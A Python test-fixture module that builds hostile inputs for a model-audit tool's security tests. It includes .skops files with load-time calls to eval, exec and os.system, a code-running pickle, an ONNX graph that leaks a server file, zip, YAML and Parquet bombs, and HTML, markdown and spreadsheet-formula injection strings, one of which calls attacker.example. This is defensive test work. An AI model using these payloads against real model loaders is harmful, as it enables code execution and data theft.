"""Builders of hostile inputs: crafted ``.skops`` zips, ONNX graphs, bombs and injection strings.

Every ``.skops`` payload is written by hand, the way an attacker would: the schema of a real bundled model is
read, a node that calls a function at load is added to it, and the zip is written again with the same arrays.
Each payload writes (or reads) a file that the tests watch, so a test can tell a refusal from a payload that
merely failed to run: :func:`unguarded_load` loads it the way an unprotected loader would, to prove it is live.
"""

from __future__ import annotations

import io
import itertools
import json
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

ROOT = Path(__file__).resolve().parents[2]
GERMAN = ROOT / "sample_data" / "german_credit"
ADULT = ROOT / "sample_data" / "adult"

# Strings that would be live Markdown or HTML if a renderer let them through unescaped.
IMG_INJECTION = "![x](http://attacker.example/beacon.png)"
HTML_INJECTION = "<img src=x onerror=alert(1)>"
SCRIPT_INJECTION = "<script>alert('rai')</script>"
FENCE_BREAKER = "Model\n```\n" + SCRIPT_INJECTION + "\n```\n~~struck~~"
FORMULA_CELLS = (
    '=HYPERLINK("http://attacker.example","x")',
    "+SUM(A1:A9)",
    "-2+3*cmd|' /C calc'!A0",
    "@SUM(1)",
)

_ids = itertools.count(7_000_000_000)


# ------------------------------------------------------------------------------------------------------------
# skops schema nodes (protocol 2, as skops 0.16 writes them); every node carries a unique __id__ because skops
# memoises nodes by id, and two nodes without one would be taken for the same node.
# ------------------------------------------------------------------------------------------------------------
def _node(cls: str, module: str, loader: str, **extra: Any) -> dict[str, Any]:
    return {"__class__": cls, "__module__": module, "__loader__": loader, **extra, "__id__": next(_ids)}


def json_node(value: Any) -> dict[str, Any]:
    return _node(type(value).__name__, "builtins", "JsonNode", content=json.dumps(value), is_json=True)


def tuple_node(items: list[dict[str, Any]]) -> dict[str, Any]:
    return _node("tuple", "builtins", "TupleNode", content=list(items))


def list_node(items: list[dict[str, Any]]) -> dict[str, Any]:
    return _node("list", "builtins", "ListNode", content=list(items))


def str_type_node() -> dict[str, Any]:
    return _node("str", "builtins", "TypeNode")


def dict_node(content: dict[str, dict[str, Any]]) -> dict[str, Any]:
    key_types = list_node([str_type_node() for _ in content])
    return _node("dict", "builtins", "DictNode", content=dict(content), key_types=key_types)


def call_node(module: str, name: str, *args: dict[str, Any]) -> dict[str, Any]:
    """A node that calls ``module.name(*args)`` at load: skops' LossNode takes its constructor from the schema."""
    return _node(name, module, "LossNode", __reduce__={"args": tuple_node(list(args))}, content=dict_node({}))


def function_node(module: str, name: str) -> dict[str, Any]:
    """A node that evaluates to the function object ``module.name`` (not called)."""
    return _node(name, module, "FunctionNode")


def operator_node(name: str, *attrs: dict[str, Any]) -> dict[str, Any]:
    return _node(name, "operator", "OperatorFuncNode", attrs=tuple_node(list(attrs)))


def partial_node(func: dict[str, Any], *args: dict[str, Any]) -> dict[str, Any]:
    content = {
        "func": func,
        "args": tuple_node(list(args)),
        "kwds": dict_node({}),
        "namespace": json_node(None),
    }
    return _node("partial", "functools", "PartialNode", content=content)


def call_each(func: dict[str, Any], *items: dict[str, Any]) -> dict[str, Any]:
    """``list(map(func, items))``: how a payload calls a function object it could only build, not call."""
    return call_node("builtins", "list", call_node("builtins", "map", func, list_node(list(items))))


def s(value: Any) -> dict[str, Any]:
    return json_node(value)


# ------------------------------------------------------------------------------------------------------------
# The payloads: name -> (the dotted name the refusal must name, a builder of the node given the watched paths)
# ------------------------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Targets:
    """Files a payload touches: ``marker`` is written by a payload that runs; ``secret`` is read by one that
    exfiltrates; ``pickle_file`` is a pickle already on the server (an earlier upload) that numpy.load would run."""

    marker: Path
    secret: Path
    pickle_file: Path


def _write_marker_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('pwned')"


def _path(marker: Path) -> dict[str, Any]:
    return call_node("pathlib", "Path", s(str(marker)))


PAYLOADS: dict[str, tuple[str, Callable[[Targets], dict[str, Any]]]] = {
    "eval": (
        "builtins.eval",
        lambda t: call_node("builtins", "eval", s(_write_marker_code(t.marker))),
    ),
    "exec": (
        "builtins.exec",
        lambda t: call_node("builtins", "exec", s(_write_marker_code(t.marker))),
    ),
    "open": (
        "builtins.open",
        lambda t: call_node("builtins", "open", s(str(t.marker)), s("w")),
    ),
    "compile": (
        "builtins.compile",
        lambda t: call_node(
            "builtins",
            "exec",
            call_node("builtins", "compile", s(_write_marker_code(t.marker)), s("<m>"), s("exec")),
        ),
    ),
    "__import__": (
        "builtins.__import__",
        lambda t: call_each(
            call_node("builtins", "getattr", call_node("builtins", "__import__", s("os")), s("system")),
            s(f"touch {t.marker}"),
        ),
    ),
    "getattr": (
        "builtins.getattr",
        lambda t: call_each(call_node("builtins", "getattr", _path(t.marker), s("write_text")), s("pwned")),
    ),
    "map": (
        "builtins.map",
        lambda t: call_each(function_node("os", "system"), s(f"touch {t.marker}")),
    ),
    "os.system": (
        "os.system",
        lambda t: call_node("os", "system", s(f"touch {t.marker}")),
    ),
    "numpy.load": (
        "numpy.load",
        lambda t: call_node("numpy", "load", s(str(t.pickle_file)), json_node(None), s(True)),
    ),
    "numpy.fromfile": (
        "numpy.fromfile",
        lambda t: call_node("numpy", "fromfile", s(str(t.secret)), s("uint8")),
    ),
    "numpy.save": (
        "numpy.save",
        lambda t: call_node("numpy", "save", s(str(t.marker)), list_node([s(1)])),
    ),
    "scipy.io.savemat": (
        "scipy.io.savemat",
        lambda t: call_node("scipy.io", "savemat", s(str(t.marker)), dict_node({})),
    ),
    "operator.attrgetter": (
        "operator.attrgetter",
        lambda t: call_each(
            call_node(
                "builtins",
                "next",
                call_node(
                    "builtins",
                    "map",
                    operator_node("attrgetter", s("write_text")),
                    list_node([_path(t.marker)]),
                ),
            ),
            s("pwned"),
        ),
    ),
    "operator.methodcaller": (
        "operator.methodcaller",
        lambda t: call_each(operator_node("methodcaller", s("write_text"), s("pwned")), _path(t.marker)),
    ),
    "functools.partial": (
        "functools.partial",
        lambda t: call_each(partial_node(function_node("builtins", "exec")), s(_write_marker_code(t.marker))),
    ),
}


def marker_written(t: Targets) -> bool:
    """Whether a payload ran: it wrote the marker (numpy.save and savemat may add a suffix)."""
    return any(
        p.exists()
        for p in (
            t.marker,
            t.marker.with_name(t.marker.name + ".npy"),
            t.marker.with_name(t.marker.name + ".mat"),
        )
    )


class _WritesMarker:
    """A pickle that writes a file when it is unpickled (stands for a pickle already on the server)."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (f"open({self.marker!r}, 'w').write('pwned')",))


def make_targets(folder: Path) -> Targets:
    folder.mkdir(parents=True, exist_ok=True)
    secret = folder / "server_secret.txt"
    secret.write_text(SECRET)
    pickle_file = folder / "earlier_upload.npy"
    marker = folder / "MARKER"
    pickle_file.write_bytes(pickle.dumps(_WritesMarker(marker)))
    return Targets(marker=marker, secret=secret, pickle_file=pickle_file)


SECRET = "RAI-SECRET-7f3c9e1a-do-not-leak"


# ------------------------------------------------------------------------------------------------------------
# Writing .skops zips
# ------------------------------------------------------------------------------------------------------------
def read_skops(path: Path) -> tuple[dict[str, Any], dict[str, bytes]]:
    """The schema and the other members of a real .skops file."""
    with zipfile.ZipFile(path) as z:
        schema = json.loads(z.read("schema.json"))
        members = {n: z.read(n) for n in z.namelist() if n != "schema.json"}
    return schema, members


def write_skops(schema: dict[str, Any], members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
        z.writestr("schema.json", json.dumps(schema))
    return buf.getvalue()


def skops_with_payload(node: dict[str, Any], *, host: Path = GERMAN / "german_logreg.skops") -> bytes:
    """A real model (German credit logistic regression) with ``node`` stored as one more attribute of its
    pipeline: when it loads, the payload runs, and the model still predicts like the original."""
    schema, members = read_skops(host)
    attrs = schema["content"]  # the Pipeline's attribute dict (a DictNode)
    attrs["content"]["_rai_payload"] = node
    attrs["key_types"]["content"].append(str_type_node())
    return write_skops(schema, members)


def payload_skops(name: str, targets: Targets) -> bytes:
    return skops_with_payload(PAYLOADS[name][1](targets))


def unguarded_load(raw: bytes) -> Any:
    """Load a .skops the way an unprotected loader would: trust whatever the file names."""
    import skops.io as sio

    return sio.loads(raw, trusted=sio.get_untrusted_types(data=raw))


def skops_zip_bomb(inflated_bytes: int = 1024**3) -> bytes:
    """A .skops zip of about 1 MB whose schema.json inflates to ``inflated_bytes`` (valid JSON: a real schema
    followed by spaces), with the real arrays beside it."""
    schema, members = read_skops(GERMAN / "german_logreg.skops")
    head = json.dumps(schema).encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
        info = zipfile.ZipInfo("schema.json")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            fh.write(head)
            chunk = b" " * (16 * 1024 * 1024)
            left = inflated_bytes - len(head)
            while left > 0:
                fh.write(chunk[: min(left, len(chunk))])
                left -= len(chunk)
    return buf.getvalue()


# ------------------------------------------------------------------------------------------------------------
# Crafted tree nodes
# ------------------------------------------------------------------------------------------------------------
def _find_nodes(n: Any, cls: str, out: list[dict[str, Any]]) -> None:
    if isinstance(n, dict):
        if n.get("__class__") == cls and "__loader__" in n:
            out.append(n)
        for v in n.values():
            _find_nodes(v, cls, out)
    elif isinstance(n, list):
        for v in n:
            _find_nodes(v, cls, out)


def _npy_file_of(node: dict[str, Any], key: str) -> str:
    """The zip member holding array attribute ``key`` of an estimator node."""
    container = node["content"]
    if container.get("__loader__") == "DictNode":
        return container["content"][key]["file"]
    raise ValueError(f"cannot find {key} in {node['__class__']}")


def crafted_hist_gbm(field: str, value: Any) -> bytes:
    """The bundled Adult HistGradientBoosting model with ``field`` of the root node of its first tree set to
    ``value`` (e.g. a child index far outside the node array)."""
    schema, members = read_skops(ADULT / "adult_gbm.skops")
    found: list[dict[str, Any]] = []
    _find_nodes(schema, "TreePredictor", found)
    member = _npy_file_of(found[0], "nodes")
    nodes = np.load(io.BytesIO(members[member]), allow_pickle=False)
    nodes = nodes.copy()
    nodes[field][0] = value
    out = io.BytesIO()
    np.save(out, nodes, allow_pickle=False)
    members[member] = out.getvalue()
    return write_skops(schema, members)


def decision_tree_skops(folder: Path) -> Path:
    """A real DecisionTreeClassifier on the German credit numeric columns, saved with skops."""
    import pandas as pd
    import skops.io as sio
    from sklearn.tree import DecisionTreeClassifier

    frame = pd.read_csv(GERMAN / "german_credit_train.csv")
    cols = ["duration", "credit_amount", "installment_commitment", "age", "existing_credits"]
    model = DecisionTreeClassifier(max_depth=4, random_state=0).fit(frame[cols], frame["credit_risk"])
    path = folder / "tree.skops"
    sio.dump(model, path)
    return path


def crafted_decision_tree(path: Path, field: str, value: Any) -> bytes:
    """``path`` (a DecisionTreeClassifier .skops) with ``field`` of the root of its Tree's node array set to
    ``value``."""
    schema, members = read_skops(path)
    found: list[dict[str, Any]] = []
    _find_nodes(schema, "Tree", found)
    tree = found[0]
    member = tree["content"]["content"]["nodes"]["file"]
    nodes = np.load(io.BytesIO(members[member]), allow_pickle=False).copy()
    nodes[field][0] = value
    out = io.BytesIO()
    np.save(out, nodes, allow_pickle=False)
    members[member] = out.getvalue()
    return write_skops(schema, members)


# ------------------------------------------------------------------------------------------------------------
# ONNX
# ------------------------------------------------------------------------------------------------------------
def onnx_external_data(location: str) -> bytes:
    """A small ONNX graph whose output is an initializer stored as external data at ``location`` (read by
    onnxruntime from the working directory): a model that hands back a server file's bytes as predictions."""
    from onnx import TensorProto, helper

    secret = np.frombuffer(SECRET.encode(), dtype=np.uint8).astype(np.int64)
    tensor = helper.make_tensor("leak", TensorProto.INT64, [len(secret)], secret.tolist())
    tensor.ClearField("int64_data")
    tensor.data_location = TensorProto.EXTERNAL
    for k, v in {"location": location, "offset": "0", "length": str(len(secret) * 8)}.items():
        entry = tensor.external_data.add()
        entry.key, entry.value = k, v
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 1])
    y = helper.make_tensor_value_info("label", TensorProto.INT64, [None])
    node = helper.make_node("Identity", ["leak"], ["label"])
    graph = helper.make_graph([node], "leak", [x], [y], initializer=[tensor])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


def external_data_file(folder: Path) -> Path:
    """The file an external-data payload reads: the secret as int64 values."""
    path = folder / "weights.bin"
    path.write_bytes(np.frombuffer(SECRET.encode(), dtype=np.uint8).astype(np.int64).tobytes())
    return path


def onnx_custom_op(domain: str = "com.attacker.ops") -> bytes:
    """An ONNX graph whose one node is a custom operator from ``domain`` (a native library onnxruntime would
    have to load)."""
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 1])
    y = helper.make_tensor_value_info("label", TensorProto.INT64, [None])
    node = helper.make_node("Pwn", ["X"], ["label"], domain=domain)
    graph = helper.make_graph([node], "custom", [x], [y])
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid(domain, 1)]
    )
    model.ir_version = 8
    return model.SerializeToString()


# ------------------------------------------------------------------------------------------------------------
# YAML and data bombs
# ------------------------------------------------------------------------------------------------------------
def yaml_alias_bomb(levels: int = 9) -> str:
    """Billion laughs: about 500 bytes that expand to 10**levels strings when aliases are resolved."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        refs = ",".join([f"*a{i - 1}"] * 10)
        lines.append(f"a{i}: &a{i} [{refs}]")
    lines.append(f"target: credit_risk\nprotected: [sex]\nbomb: *a{levels - 1}")
    return "\n".join(lines) + "\n"


def constant_parquet(
    path: Path, *, rows: int = 40_000_000, columns: int = 11, chunk: int = 4_000_000
) -> Path:
    """A Parquet file of ``rows`` identical rows (dictionary + RLE encoded: under 1 MB on disk) whose
    ``rows x columns`` exceeds the default cell budget and would take gigabytes as a DataFrame."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    indices = pa.array(np.zeros(chunk, dtype=np.int32))
    col = pa.DictionaryArray.from_arrays(indices, pa.array(["the same value in every row"]))
    table = pa.table({f"c{i}": col for i in range(columns)})
    with pq.ParquetWriter(
        path, table.schema, compression="none", use_dictionary=True, write_statistics=False
    ) as writer:
        for _ in range(rows // chunk):
            writer.write_table(table)
    return path


def sparse_file(path: Path, size: int) -> Path:
    """A file of ``size`` bytes that costs no disk (a hole made with truncate)."""
    with open(path, "wb") as fh:
        fh.truncate(size)
    return path


# ------------------------------------------------------------------------------------------------------------
# A model that predicts on the whole dataset but fails on any other batch: the audit starts (inputs are valid)
# and the explanation section, which predicts on samples, errors. Pickled with --trust-pickle by the CLI tests.
# ------------------------------------------------------------------------------------------------------------
class FailsOnSamples:
    def __init__(self, estimator: Any, n_rows: int) -> None:
        self.estimator = estimator
        self.n_rows = n_rows
        self.classes_ = estimator.classes_
        self.feature_names_in_ = estimator.feature_names_in_

    def _check(self, X: Any) -> None:
        if len(X) != self.n_rows:
            raise RuntimeError("this model only predicts whole datasets")

    def predict(self, X: Any) -> Any:
        self._check(X)
        return self.estimator.predict(X)

    def predict_proba(self, X: Any) -> Any:
        self._check(X)
        return self.estimator.predict_proba(X)
